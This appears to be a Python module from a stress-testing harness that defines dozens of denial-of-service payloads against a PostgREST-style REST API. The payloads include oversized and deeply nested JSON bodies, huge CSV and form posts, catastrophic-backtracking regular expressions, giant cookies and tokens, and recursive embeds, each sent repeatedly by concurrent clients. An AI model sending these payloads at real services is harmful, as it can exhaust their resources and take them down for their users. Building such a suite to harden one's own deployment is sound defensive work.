"""What becomes of requests to REST: bodies, filters, embeds, heads."""

from __future__ import annotations

import itertools
import json
import string

from client import Connection, Target

from . import attack

# Just below the largest body that REST accepts.
LARGE = 15_500_000


def post(path: str, body: bytes, kind: str = "application/json", clients: int = 4, method: str = "POST", **headers: str):
    """An attack that sends one body again and again."""

    def run(target: Target) -> None:
        def send(connection: Connection, _: int) -> int:
            return connection.send(method, path, body, Content_Type=kind, **headers)[0]

        target.repeat(clients, send)

    return run


def value(bytes_: int) -> bytes:
    return b'{"body":"' + b"x" * bytes_ + b'"}'


def add_all() -> None:
    csv = b"k" * (512 * 1024) + b"\n" + b"1\n" * 600
    attack("rest/csv-without-table", chosen=True)(post("/rest/v1/nothing", csv, "text/csv"))
    attack("rest/csv-many-columns")(post("/rest/v1/texts", b",".join(b"c%d" % n for n in range(1500)) + b"\n" + b"1\n" * 2_000_000, "text/csv"))
    attack("rest/csv-small-cells")(post("/rest/v1/texts", b"n\n" + b"1\n" * 7_000_000, "text/csv"))
    attack("rest/form-fields", chosen=True)(post("/rest/v1/rpc/nothing", b"a&" * (LARGE // 2), "application/x-www-form-urlencoded"))
    attack("rest/form-of-percents")(post("/rest/v1/rpc/length_of", b"body=" + b"%61" * (LARGE // 3), "application/x-www-form-urlencoded"))
    keys = ("{" + ",".join(f'"{n:x}":0' for n in range(1_500_000)) + "}").encode()
    attack("rest/json-keys")(post("/rest/v1/nothing", keys))
    attack("rest/json-keys-of-a-table")(post("/rest/v1/texts", keys))
    hint = ("{" + ",".join(f'"{chr(0x4E00 + n % 20000)}{chr(0x4E00 + n * 7919 % 20000)}{n:x}":0' for n in range(850_000)) + "}").encode()
    attack("rest/json-keys-in-a-hint")(post("/rest/v1/rpc/add", hint))
    attack("rest/large-writes", chosen=True)(post("/rest/v1/texts", value(LARGE)))
    attack("rest/large-writes-returned")(post("/rest/v1/texts", value(LARGE), clients=16, Prefer="return=representation"))
    attack("rest/large-updates")(post("/rest/v1/texts?id=eq.0", value(LARGE), method="PATCH", clients=8))
    attack("rest/large-argument")(post("/rest/v1/rpc/length_of", value(LARGE), clients=8))
    rows = b"[" + b",".join([b'{"n":1}'] * (LARGE // 8)) + b"]"
    attack("rest/many-rows")(post("/rest/v1/texts", rows, Prefer="tx=rollback"))
    attack("rest/json-of-arrays")(post("/rest/v1/texts", b'{"document":[' + b"[]," * (LARGE // 3 - 10) + b"[]]}", clients=8))
    attack("rest/json-deep")(post("/rest/v1/texts", b'{"document":' + b"[" * (LARGE // 2) + b"]" * (LARGE // 2) + b"}"))
    attack("rest/refused-value", chosen=True)(post("/rest/v1/texts", b'{"n":"' + b"x" * 8_000_000 + b'"}', clients=2))
    attack("rest/refused-argument")(post("/rest/v1/rpc/add", b'{"a":"' + b"x" * 8_000_000 + b'","b":1}', clients=2))
    attack("rest/graphql-body")(post("/graphql/v1", b'{"query":"' + b"{a" * 400_000 + b'"}'))


add_all()


@attack("rest/refused-filter")
def refused_filter(target: Target) -> None:
    # The value looks like an entry of PostgreSQL's log that a setting asks for, which is written without a limit.
    path = "/rest/v1/todos?n=eq.%20LOG:%20%20" + "x" * 60_000
    target.repeat(4, lambda connection, _: connection.send("GET", path)[0])


@attack("rest/unknown-names-in-paths")
def unknown_names(target: Target) -> None:
    target.repeat(4, lambda connection, number: connection.send("GET", f"/rest/v1/{number}{'a' * 60_000}")[0])


# A text of 14 MB where all rows are selected.
MANY_COLUMNS = ",".join(f"a{number}:title" for number in range(380))


def read(select: str = MANY_COLUMNS, clients: int = 24, **headers: str):
    """An attack that asks for one answer again and again."""

    def run(target: Target) -> None:
        target.repeat(clients, lambda connection, _: connection.send("GET", f"/rest/v1/todos?select={select}", **headers)[0])

    return run


attack("rest/compressed-answers", seconds=8, chosen=True)(read(Accept_Encoding="br"))
attack("rest/compressed-by-gzip", seconds=8)(read(Accept_Encoding="gzip"))
attack("rest/compressed-answers-of-5-mb", seconds=8)(read(",".join(f"a{number}:title" for number in range(140)), Accept_Encoding="br"))
# PostgreSQL writes these in one piece.
attack("rest/counted-answers", seconds=8)(read(Prefer="count=exact"))
attack("rest/answers-as-csv", seconds=8)(read(Accept="text/csv"))
attack("rest/answers-without-nulls", seconds=8)(read(Accept="application/vnd.pgrst.array+json;nulls=stripped"))
attack("rest/answers-of-writes", seconds=8)(
    post(f"/rest/v1/todos?id=gte.0&select={MANY_COLUMNS}", b'{"n":1}', method="PATCH", clients=24, Prefer="return=representation,tx=rollback")
)


@attack("rest/shapes-of-large-answers", seconds=8)
def shapes_of_large_answers(target: Target) -> None:
    """No two are alike, so that nobody knows how large they become."""

    def send(connection: Connection, number: int) -> int:
        return connection.send("GET", f"/rest/v1/todos?select={MANY_COLUMNS},b{number}:n", Prefer="count=exact")[0]

    target.repeat(24, send)


@attack("rest/counted-answers-after-small-ones", seconds=8)
def counted_answers_after_small_ones(target: Target) -> None:
    """Known to be small, by other values."""
    path = f"/rest/v1/todos?select={MANY_COLUMNS}&id=lt."

    def send(connection: Connection, number: int) -> int:
        most = 2 + number % 40 if number < 48 else 100_000_000 + number
        return connection.send("GET", f"{path}{most}", Prefer="count=exact")[0]

    target.repeat(24, send)


@attack("rest/writes-after-small-ones", seconds=8)
def writes_after_small_ones(target: Target) -> None:
    """As the one before it, with rows that are written and returned."""
    path = f"/rest/v1/todos?select={MANY_COLUMNS}&id=lt."
    headers = {"Prefer": "return=representation,tx=rollback", "Content_Type": "application/json"}

    def send(connection: Connection, number: int) -> int:
        most = 2 + number % 40 if number < 48 else 100_000_000 + number
        return connection.send("PATCH", f"{path}{most}", b'{"n":1}', **headers)[0]

    target.repeat(24, send)


@attack("rest/values-after-small-ones", seconds=8)
def values_after_small_ones(target: Target) -> None:
    """A function whose value PostgreSQL writes in one piece, known to be small by other arguments."""

    def send(connection: Connection, number: int) -> int:
        count = 1 + number % 40 if number < 48 else 14_000_000 + number
        return connection.send("GET", f"/rest/v1/rpc/text_of?count={count}")[0]

    target.repeat(24, send)


@attack("rest/shapes-of-columns", seconds=12)
def shapes_of_columns(target: Target) -> None:
    """Statements that are just short enough to be kept, as many as are kept."""
    columns = ",".join(f"b{number}:title" for number in range(240))
    target.repeat(32, lambda connection, number: connection.send("GET", f"/rest/v1/todos?select={columns}&limit={number % 128}")[0])


attack("rest/bodies-below-the-large", seconds=8)(post("/rest/v1/texts", b'{"document":[' + b"[]," * 83_000 + b"[]]}", clients=32))
attack("rest/rows-below-the-large", seconds=8)(post("/rest/v1/texts", b"[" + b",".join([b'{"n":1}'] * 31_000) + b"]", clients=32, Prefer="tx=rollback"))


@attack("rest/shapes-of-statements", seconds=12)
def shapes(target: Target) -> None:
    most = 60_000 // len("n.eq.1,")

    def send(connection: Connection, number: int) -> int:
        conditions = ",".join(["n.eq.1"] * (most - number // 3 % 60))
        return connection.send("GET", f"/rest/v1/todos?limit=1&select=n&or=({conditions})")[0]

    target.repeat(4, send)


@attack("rest/cookies")
def cookies(target: Target) -> None:
    names = ("".join(letters) for letters in itertools.product(string.ascii_letters + string.digits, repeat=3))
    cookie = ";".join(itertools.islice(names, 29_700))
    target.repeat(4, lambda connection, _: connection.send("GET", "/rest/v1/todos?limit=1", Cookie=cookie)[0])


@attack("rest/product-of-embeds", seconds=8)
def embeds(target: Target) -> None:
    path = "/rest/v1/todos?id=eq.1&select=notes(id,todos(notes(id,body,todos(notes(id)))))"
    target.repeat(2, lambda connection, _: connection.send("GET", path)[0])


@attack("rest/regular-expressions")
def regular_expressions(target: Target) -> None:
    path = "/rest/v1/todos?title=match.((x{1,200}){1,200}){1,200}"
    target.repeat(4, lambda connection, _: connection.send("GET", path)[0])


@attack("rest/backtracking-expressions")
def backtracking(target: Target) -> None:
    path = "/rest/v1/todos?title=match.^(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.%2B)%5C8$"
    target.repeat(4, lambda connection, _: connection.send("GET", path)[0])


@attack("rest/openapi-roots")
def openapi_roots(target: Target) -> None:
    target.repeat(8, lambda connection, _: connection.send("GET", "/rest/v1/")[0])


@attack("rest/many-functions-arguments")
def many_arguments(target: Target) -> None:
    query = "&".join(f"p{number}=1" for number in range(7000))
    target.repeat(4, lambda connection, _: connection.send("GET", f"/rest/v1/rpc/add?{query}")[0])


@attack("rest/claims")
def claims(target: Target) -> None:
    token = "e30." + "a" * 60_000 + ".b"
    target.repeat(4, lambda connection, _: connection.send("GET", "/rest/v1/todos?limit=1", Authorization=f"Bearer {token}")[0])


@attack("rest/nested-logic")
def nested_logic(target: Target) -> None:
    depth = 6000
    query = "and(" * depth + "n.eq.1" + ")" * depth
    target.repeat(4, lambda connection, _: connection.send("GET", f"/rest/v1/todos?limit=1&and=({query})")[0])


@attack("rest/nested-embeds")
def nested_embeds(target: Target) -> None:
    depth = 3000
    query = "notes(id,todos(" * depth + "id" + "))" * depth
    target.repeat(4, lambda connection, _: connection.send("GET", f"/rest/v1/todos?limit=1&select={query}")[0])


@attack("rest/json-of-numbers")
def json_of_numbers(target: Target) -> None:
    body = json.dumps({"n": 1}).encode()[:-1] + b',"document":[' + b"1," * (LARGE // 2 - 20) + b"1]}"
    target.repeat(8, lambda connection, _: connection.send("POST", "/rest/v1/texts", body, Content_Type="application/json")[0])
